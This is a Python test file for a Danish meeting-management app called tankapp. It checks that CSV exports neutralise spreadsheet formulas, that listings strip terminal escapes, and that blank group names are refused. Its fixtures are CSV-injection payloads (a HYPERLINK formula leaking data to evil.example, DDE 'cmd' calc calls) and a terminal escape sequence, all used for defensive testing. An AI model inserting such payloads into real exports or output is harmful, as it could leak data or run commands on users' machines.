"""What tankapp writes as CSV never runs as a formula, and a listing never sends escapes to a terminal.

Every CSV (the command line's listings and the files for Danish Excel) goes through the
one writer in tankapp.export.tabular: a text a spreadsheet would run (=, +, -, @, also after
leading spaces, or a leading tab or CR) gets a leading '. JSON carries every text exactly.
And a group name that is empty or blank names no group: it is never "all groups".
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest

from tankapp.domain.enums import ContributionStatus
from tankapp.export import tabular
from tankapp.services.meeting_mode import attendance
from tankapp.services.contributions import register as contributions
from tankapp.services.members import groups
from tankapp.services.meetings import planning as meetings
from tankapp.services.members import registry as members
from tests.helpers import assert_one_line, db_arg, run

NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "   =1+1",
    "\t=1+1",
]
ESCAPE = "\x1b]8;;http://evil.example\x07Åse\x1b[2J\x9b31m"


@pytest.fixture
def filled(db, group_ids) -> Path:
    """A database whose names and titles hold formulas and terminal escapes."""
    with db.session() as s:
        # set on the record itself, as an import or another program may leave them
        # (the forms strip leading white space)
        for i, name in enumerate([*NASTY, ESCAPE]):
            member = members.add_member(s, members.MemberInput(name=f"Medlem {i}", group_id=group_ids["Klinikere"]))
            member.name = name
        groups.create_group(s, groups.GroupInput(name="=1+1 gruppe"))
        meeting = meetings.create_meeting(
            s,
            meetings.MeetingInput(
                title='=HYPERLINK("http://evil.example","Møde")', date=dt.date(2026, 3, 12),
                start=dt.time(9, 30), end=dt.time(12, 0), group_ids=[group_ids["Klinikere"]],
            ),
        )
        attendance.add_guest(s, meeting.id, "+45 gæst", organisation="@org", role="-rolle")
        for i, title in enumerate(NASTY):
            contribution = contributions.create_contribution(
                s, contributions.ContributionInput(
                    title=f"Bidrag {i}", text="x", group_id=group_ids["Klinikere"], status=ContributionStatus.REVIEWED)
            )
            contribution.title = title
    return db_arg(db)  # the file, or the server's URL


def listing(capsys, db: Path, *args, fmt: str) -> str:
    code, out, err = run(capsys, "--db", db, *args, "--format", fmt)
    assert code == 0, err
    assert err == ""
    return out


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def is_guarded(cell: str) -> bool:
    return cell.startswith("'")


@pytest.mark.parametrize(
    ("args", "field"),
    [
        (("members", "list"), "name"),
        (("contributions", "list"), "title"),
    ],
)
def test_listing_csv_shows_formulas_as_text_and_json_stays_exact(capsys, filled, args, field):
    rows = csv_rows(listing(capsys, filled, *args, fmt="csv"))
    exact = {o[field] for o in json.loads(listing(capsys, filled, *args, fmt="json"))}
    assert set(NASTY) <= exact  # JSON: exactly as typed
    nasty_cells = [r[field] for r in rows if r[field].lstrip("'").lstrip().startswith(("=", "+", "-", "@"))]
    assert len(nasty_cells) >= len(NASTY)
    assert all(is_guarded(c) for c in nasty_cells), nasty_cells
    # the guard adds one ' and nothing else (a tab becomes a space on the command line)
    assert {c[1:].replace(" ", "") for c in nasty_cells} >= {n.replace("\t", "").replace(" ", "") for n in NASTY}


def test_every_listing_guards_its_csv(capsys, filled):
    from tankapp.services.meetings import planning as meeting_service
    from tankapp.storage import open_database

    with open_database(filled) as db, db.reading() as s:
        mid = next(m.id for m in meeting_service.list_meetings(s) if "HYPERLINK" in m.title)
    groups_csv = csv_rows(listing(capsys, filled, "groups", "list", fmt="csv"))
    assert "'=1+1 gruppe" in {r["name"] for r in groups_csv}
    meetings_csv = csv_rows(listing(capsys, filled, "meetings", "list", fmt="csv"))
    assert """'=HYPERLINK("http://evil.example","Møde")""" in {r["title"] for r in meetings_csv}
    guests = [r for r in csv_rows(listing(capsys, filled, "attendance", "list", "--meeting", mid, fmt="csv"))
              if r["guest"] == "yes"]
    assert [(g["name"], g["organisation"], g["note"]) for g in guests] == [("'+45 gæst", "'@org", "'-rolle")]
    members_csv = csv_rows(listing(capsys, filled, "members", "list", fmt="csv"))
    # numbers stored as numbers are not text: ids stay bare, and -1 would too
    assert all(r["id"].isdigit() for r in members_csv)


def test_numbers_are_left_alone_but_text_that_looks_like_one_is_guarded():
    assert tabular.csv_cell(-3, tabular.PLAIN_CSV) == "-3"
    assert tabular.csv_cell(-1.5) == "-1.5"
    assert tabular.csv_cell("-3+cmd|' /C calc'!A0", tabular.PLAIN_CSV) == "'-3+cmd|' /C calc'!A0"
    assert tabular.csv_cell("-3", tabular.PLAIN_CSV) == "'-3"
    assert tabular.csv_cell(True, tabular.PLAIN_CSV) == "yes" and tabular.csv_cell(False) == "nej"
    assert tabular.csv_cell(["=a", "b"], tabular.PLAIN_CSV) == "'=a; b"
    assert tabular.csv_cell(" \u00a0@x") == "' \u00a0@x"
    assert tabular.csv_cell("\rtext") == "'\rtext"
    assert tabular.csv_cell("a=b") == "a=b"


def test_the_cli_csv_and_the_danish_excel_file_share_the_guard(tmp_path):
    rows = [{"a": "  =1+1", "b": ["x", "y"], "c": True, "d": -4}]
    plain = tabular.csv_text(rows, ["a", "b", "c", "d"], tabular.PLAIN_CSV)
    assert plain == "a,b,c,d\n'  =1+1,x; y,yes,-4\n"
    tabular.write_csv(tmp_path / "t.csv", rows, ["a", "b", "c", "d"])
    assert (tmp_path / "t.csv").read_bytes() == "\ufeffa;b;c;d\r\n'  =1+1;x, y;ja;-4\r\n".encode()


def test_the_contributions_file_for_excel_guards_a_formula_after_spaces(capsys, filled, tmp_path):
    out = tmp_path / "vibis.csv"
    code, _, err = run(capsys, "--db", filled, "export", "contributions", "--out", out)
    assert code == 0, err
    titles = {r["title"] for r in csv.DictReader(io.StringIO(out.read_text("utf-8-sig"), newline=""), delimiter=";")}
    assert "'   =1+1" in titles and "'\t=1+1" in titles


def test_table_never_writes_control_characters(capsys, filled):
    table = listing(capsys, filled, "members", "list", fmt="table")
    assert not any(ord(c) < 32 and c != "\n" or 0x7F <= ord(c) <= 0x9F for c in table), repr(table)
    assert "\ufffd]8;;http://evil.example\ufffdÅse\ufffd[2J\ufffd31m" in table
    csv_out = listing(capsys, filled, "members", "list", fmt="csv")
    assert "\x1b" not in csv_out and "\x07" not in csv_out
    exact = {o["name"] for o in json.loads(listing(capsys, filled, "members", "list", fmt="json"))}
    assert ESCAPE in exact  # JSON: exact (escaped by JSON itself)


# ---------------------------------------------------------------- an empty group name is no group


@pytest.mark.parametrize("blank", ["", "   "])
@pytest.mark.parametrize(
    "command",
    [("members", "list"), ("meetings", "list"), ("contributions", "list")],
)
def test_a_blank_group_is_refused_not_taken_as_all(capsys, filled, blank, command):
    code, out, err = run(capsys, "--db", filled, *command, "--group", blank)
    assert code == 1
    assert out == ""
    assert_one_line(err)
    assert "no group named '" in err


@pytest.mark.parametrize("blank", ["", " "])
def test_export_contributions_with_a_blank_group_writes_and_marks_nothing(capsys, filled, tmp_path, blank):
    before = listing(capsys, filled, "contributions", "list", fmt="json")
    out_file = tmp_path / "all.csv"
    code, out, err = run(capsys, "--db", filled, "export", "contributions", "--group", blank, "--out", out_file)
    assert code == 1
    assert out == ""
    assert_one_line(err)
    assert f"no group named '{blank}'" in err
    assert not out_file.exists()
    assert listing(capsys, filled, "contributions", "list", fmt="json") == before  # nothing marked sent
    assert '"status": "sent"' not in before


def test_import_members_with_a_blank_group_imports_nothing(capsys, filled, tmp_path):
    before = listing(capsys, filled, "members", "list", fmt="json")
    file = tmp_path / "nye.csv"
    file.write_text("Navn;E-mail\nBo Ny;bo@example.dk\n", encoding="utf-8")
    code, out, err = run(capsys, "--db", filled, "import-members", file, "--group", "")
    assert code == 1
    assert out == ""
    assert_one_line(err)
    assert "no group named ''" in err
    assert listing(capsys, filled, "members", "list", fmt="json") == before


def test_find_group_refuses_a_blank_name(db):
    from tankapp.services.errors import NotFound

    with db.reading() as s:
        for blank in ("", "  ", "\t"):
            with pytest.raises(NotFound) as info:
                groups.find_group(s, blank)
            assert info.value.code == "group_name_not_found"
        assert groups.find_group(s, " klinikere ").name == "Klinikere"
